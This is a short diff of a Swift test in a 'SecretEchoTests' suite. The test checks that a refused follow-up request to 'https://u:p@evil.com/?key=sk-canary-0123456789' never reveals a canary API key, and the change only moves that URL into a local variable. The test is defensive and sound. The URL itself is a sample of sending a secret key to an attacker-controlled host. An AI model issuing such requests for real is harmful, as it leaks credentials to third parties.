@@ -73,12 +73,11 @@ struct SecretEchoTests {
     @Test(arguments: Canary.ways)
     func `A refused follow-up shows no key`(way: Authorization) async throws {
         let canary = Canary.all[0]
+        let url = URL(string: "https://u:p@evil.com/?key=sk-canary-0123456789")!
         let outcomes = try await canary.outcomes(
             of: .json("{}"),
             way: way,
-            read: { _ in
-                .followUp(FollowUp(url: URL(string: "https://u:p@evil.com/?key=sk-canary-0123456789")!) { _ in .pending })
-            }
+            read: { _ in .followUp(FollowUp(url: url) { _ in .pending }) }
         )
         for outcome in outcomes { #expect(!Disclosure(of: outcome).shows(canary.key)) }
     }
